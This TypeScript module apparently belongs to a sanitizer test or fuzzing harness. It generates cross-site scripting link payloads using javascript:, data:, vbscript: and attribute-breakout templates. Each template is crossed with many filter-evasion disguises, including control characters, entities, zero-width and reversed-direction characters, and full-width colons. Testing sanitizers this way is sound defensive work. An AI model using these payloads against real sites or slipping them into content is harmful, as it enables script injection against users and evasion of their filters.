import { entities } from './markup.ts';
import type { Call, Sketch } from './vectors.ts';

const TARGETS: ((call: Call) => string)[] = [
  ({ script }) => `javascript:${script}`,
  ({ script }) => `javascript://x.invalid/%0A${script}`,
  ({ script }) => `javascript:void(${script})//https://example.org/`,
  ({ script }) => `javascript:'<script>opener.${script.replaceAll("'", '`')}</script>'`,
  ({ script }) => `data:text/html,<script>opener.${script}</script>`,
  ({ script }) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
  ({ script }) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script.replaceAll("'", '`')}'/>`,
  ({ script }) => `vbscript:msgbox(${script})`,
  ({ script }) => `blob:javascript:${script}`,
  ({ script }) => `view-source:javascript:${script}`,
  ({ script }) => `https://example.org/"onmouseover="${script}`,
  ({ script }) => `https://user:javascript@example.org/${script}`,
  ({ script }) => `mailto:a@example.org?subject="><img src=x: onerror=${script}>`,
  ({ script, n }) => `//x${n}.invalid/javascript:${script}`,
];

/** How the scheme can be hidden from whoever looks at its letters. */
const DISGUISES: Record<string, (href: string) => string> = {
  plain: (href) => href,
  'mixed case': (href) =>
    href.replace(/^[a-z]+:/, (scheme) =>
      scheme.replace(/./g, (c, at: number) => (at % 2 ? c.toUpperCase() : c)),
    ),
  'a tab within': (href) => `${href.slice(0, 3)}\t${href.slice(3)}`,
  'a newline within': (href) => `${href.slice(0, 4)}\n${href.slice(4)}`,
  'a return within': (href) => `${href.slice(0, 2)}\r\n${href.slice(2)}`,
  'a tab before the colon': (href) => href.replace(':', '\t:'),
  'a control character before': (href) => `\u0001\u001F ${href}`,
  'a no-break space before': (href) => `\u00A0${href}`,
  'a zero-width space before': (href) => `\u200B\uFEFF${href}`,
  'NUL within': (href) => `${href.slice(0, 5)}\0${href.slice(5)}`,
  entities: (href) => entities(href.slice(0, 11)) + href.slice(11),
  'named entities': (href) => `${href.slice(0, 4)}&Tab;${href.slice(4).replace(':', '&colon;')}`,
  'per cent': (href) => href.replace(':', '%3A'),
  'full width': (href) => href.replace(':', '\uFF1A'),
  'turned round': (href) => `\u202E${href}`,
  'a soft hyphen within': (href) => `${href.slice(0, 4)}\u00AD${href.slice(4)}`,
  'a long s within': (href) => href.replace('s', '\u017F'),
  backslashes: (href) => href.replace('//', '\\\\'),
};

/** Links by every scheme that could run, each disguised in every way. */
export function linkVectors(): Sketch[] {
  return Object.entries(DISGUISES).flatMap(([disguise, hide]) =>
    TARGETS.map((target): Sketch => ({
      family: `link, ${disguise}`,
      write(call) {
        const href = hide(target(call));
        return { href, text: `<a href="${href.replaceAll('"', '&quot;')}" target=_blank>${call.mark}</a>` };
      },
    })),
  );
}
